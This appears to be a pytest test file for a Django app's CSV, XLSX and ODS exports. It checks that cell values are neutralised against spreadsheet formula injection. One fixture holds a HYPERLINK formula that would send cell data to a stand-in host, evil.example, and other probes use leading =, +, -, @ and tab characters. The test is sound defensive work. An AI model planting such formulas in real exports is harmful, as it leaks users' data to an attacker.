"""Exports of the filtered list: CSV streamed with a BOM, XLSX and ODS with two sheets,
every cell neutralised against formula injection."""

import csv
import io
from datetime import date

import openpyxl
import pytest
import tablib
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from ami.exports import neutralise
from tests.factories import (
    ActorFactory,
    CommuneFactory,
    ReferentFactory,
    SubmissionFactory,
    TerritoryFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db


def export(client, extension: str, query: str = ""):
    response = client.get(reverse("staff:export", args=[extension]) + query)
    assert response.status_code == 200
    return response


def csv_rows(response) -> list[list[str]]:
    content = b"".join(response.streaming_content).decode("utf-8")
    assert content.startswith("\ufeff")
    return list(csv.reader(io.StringIO(content[1:]), delimiter=";"))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+33 2 98 92 12 34", "'+33 2 98 92 12 34"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Douarnenez = ville", "Douarnenez = ville"),
        ("", ""),
        (None, ""),
        (3, 3),
        (date(2026, 9, 1), date(2026, 9, 1)),
    ],
)
def test_neutralise_quotes_what_a_spreadsheet_would_run(value, expected):
    assert neutralise(value) == expected


@pytest.fixture
def tricky(db):
    douarnenez = CommuneFactory(insee_code="29046", name="Douarnenez")
    submission = SubmissionFactory(
        context='=HYPERLINK("http://evil.example/?d="&A1;"Cliquez")',
        territory_text="+Presqu’île",
        meeting_wished_by=date(2026, 9, 30),
        territory=TerritoryFactory(communes=[douarnenez]),
        assignee=UserFactory(roles=["ARS"], first_name="Anne", last_name="Kervella"),
    )
    submission.actors.update(name="@Dr Malicieux", practice_commune=douarnenez)
    ReferentFactory(submission=submission, name="-Référent", email="ref@example.org")
    return submission


def test_csv_is_streamed_utf8_with_bom_and_semicolons_for_french_excel(as_user, owner, tricky):
    response = export(as_user(owner), "csv")
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="reponses-ami-')
    header, row = csv_rows(response)
    assert header[:4] == ["Référence", "Campagne", "Statut", "Reçue le"]
    values = dict(zip(header, row, strict=True))
    assert values["Référence"] == tricky.reference
    assert values["Contexte"].startswith("'=HYPERLINK(")
    assert values["Territoire envisagé"] == "'+Presqu’île"
    assert values["Acteurs"].startswith("'@Dr Malicieux")
    assert values["Agent en charge"] == "Anne Kervella"
    assert values["Départements"] == "29"
    assert values["Communes du territoire"] == "Douarnenez"
    assert values["Échange souhaité avant le"] == "2026-09-30"
    assert values["Objectifs attendus"] == "Réflexion en cours autour d’un projet de CPTS"


def test_csv_follows_the_dashboard_filters(as_user, owner, tricky):
    SubmissionFactory(has_initiative=True)
    rows = csv_rows(export(as_user(owner), "csv", "?objective=initiative"))
    assert len(rows) == 2
    assert rows[1][0] != tricky.reference


def test_xlsx_has_a_submissions_and_an_actors_sheet_readable_back(as_user, owner, tricky):
    response = export(as_user(owner), "xlsx")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Réponses", "Acteurs"]
    submissions = list(workbook["Réponses"].values)
    header, row = submissions[0], submissions[1]
    values = dict(zip(header, row, strict=True))
    assert values["Contexte"].startswith("'=HYPERLINK(")
    assert workbook["Réponses"].cell(row=2, column=header.index("Contexte") + 1).data_type == "s"
    actors = list(workbook["Acteurs"].values)
    assert actors[0][:3] == ("Référence", "Nom", "Profession")
    assert actors[1][:2] == (tricky.reference, "'@Dr Malicieux")
    assert actors[1][4:6] == ("29046", "29")


def test_ods_is_readable_back_with_tablib(as_user, owner, tricky):
    response = export(as_user(owner), "ods")
    assert response["Content-Type"] == "application/vnd.oasis.opendocument.spreadsheet"
    book = tablib.Databook().load(response.content, "ods")
    submissions, actors = book.sheets()
    assert submissions.title == "Réponses" and actors.title == "Acteurs"
    assert submissions["Référence"] == [tricky.reference]
    assert submissions["Contexte"][0].startswith("'=HYPERLINK(")
    assert actors["Nom"] == ["'@Dr Malicieux"]


def count_queries(client, url: str) -> int:
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url)
        if response.streaming:
            b"".join(response.streaming_content)
    assert response.status_code == 200
    return len(queries)


def add_answers(count: int) -> None:
    for _ in range(count):
        submission = SubmissionFactory(
            assignee=UserFactory(roles=["ARS"]),
            territory=TerritoryFactory(communes=[CommuneFactory()]),
        )
        ActorFactory(submission=submission, practice_commune=CommuneFactory())
        ReferentFactory(submission=submission)


@pytest.mark.parametrize("extension", ["csv", "xlsx", "ods"])
def test_export_query_count_does_not_grow_with_rows(as_user, owner, extension):
    client = as_user(owner)
    url = reverse("staff:export", args=[extension])
    add_answers(1)
    client.get(url)
    one = count_queries(client, url)
    add_answers(15)
    assert count_queries(client, url) == one
